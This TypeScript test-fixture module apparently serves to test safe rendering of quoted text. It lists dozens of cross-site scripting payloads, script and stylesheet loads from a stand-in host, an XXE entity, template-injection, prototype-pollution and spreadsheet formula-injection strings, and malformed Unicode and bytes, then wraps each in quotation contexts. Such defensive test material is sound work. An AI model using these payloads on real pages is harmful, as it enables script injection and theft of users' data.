/** What somebody may put into a text to make the page run it, load it or lose its bearings. */
export const hostileBases: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<script src="https://elsewhere.example/x.js"></script>',
  '<script type=module>import("https://elsewhere.example/x.js")</script>',
  '<svg onload=alert(1)><svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>said</a>',
  '<a href="data:text/html,<script>alert(1)</script>">said</a>',
  '<body onload=alert(1)><details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)>',
  '<style>@import "https://elsewhere.example/x.css"; * { background: url(https://elsewhere.example/x) }</style>',
  '<p style="background: url(https://elsewhere.example/x); position: fixed; inset: 0">said</p>',
  '<link rel=stylesheet href=https://elsewhere.example/x.css><base href=https://elsewhere.example/>',
  '<link rel=preload as=image href=https://elsewhere.example/x><link rel=dns-prefetch href=//elsewhere.example>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
  '<form action=https://elsewhere.example/><button autofocus>go</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//elsewhere.example/x>',
  '</textarea></article></body><img src=x onerror=alert(1)>',
  '</title></style></script><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://elsewhere.example/x">]><x>&e;</x>',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '"><img src=x onerror=alert(1)> \'><img src=x onerror=alert(1)>',
  '`onmouseover=alert(1) " onfocus="alert(1)" autofocus="',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)} <%= alert(1) %>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '[said](javascript:alert(1)) ![x](https://elsewhere.example/x.png)',
  '__proto__ constructor toString hasOwnProperty said “__proto__,” constructor said.',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '=HYPERLINK("https://elsewhere.example/","said") @SUM(1) +cmd|x',
  '\u202e“gnol os”\u202c said \u2066Maria Diaz\u2069 \u200f\u200b\u2028\u2029',
  '\u0007\u001b[31m\u0085\u009f\ufeff said \ufffe\uffff',
  'said '.repeat(60) + '“'.repeat(40) + '<b>'.repeat(40),
];

const contexts: readonly ((base: string) => string)[] = [
  (base) => base,
  (base) => `“${base}” said Maria Diaz, who added that ${base} was fine.`,
  (base) => `“We won the match,” said ${base}.`,
  (base) => `Mayor ${base} Diaz said that "${base}" was over.`,
  (base) => escapeMarkup(base),
];

/** 200 of them: each as it is, quoted, as a name, between words of a clause, and in entities. */
export const hostilePayloads: readonly string[] = contexts.flatMap((inContext) =>
  hostileBases.map(inContext),
);

/** Half a surrogate pair and a zero byte do not survive the way back to the test; these are only ever sent. */
export const brokenText = '\u0000 “We won,” said Maria\u0000Diaz. \ud800 \udfff \udc00\ud800';

/** Bytes that are no UTF-8: overlong forms, lone continuations, surrogates, and an unfinished character. */
export const brokenBytes = Buffer.concat([
  Buffer.from('“We won,” said Maria '),
  Buffer.from([
    0xc0, 0xaf, 0x80, 0xbf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xff, 0xfe, 0xf0, 0x9f,
  ]),
  Buffer.from(' Diaz. <img src=x onerror=alert(1)>'),
  Buffer.from([0xe2, 0x80]),
]);

export function escapeMarkup(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

/** Runs of so many. */
export function inBatches<Value>(values: readonly Value[], size: number): Value[][] {
  const batches: Value[][] = [];
  for (let start = 0; start < values.length; start += size) batches.push(values.slice(start, start + size));
  return batches;
}
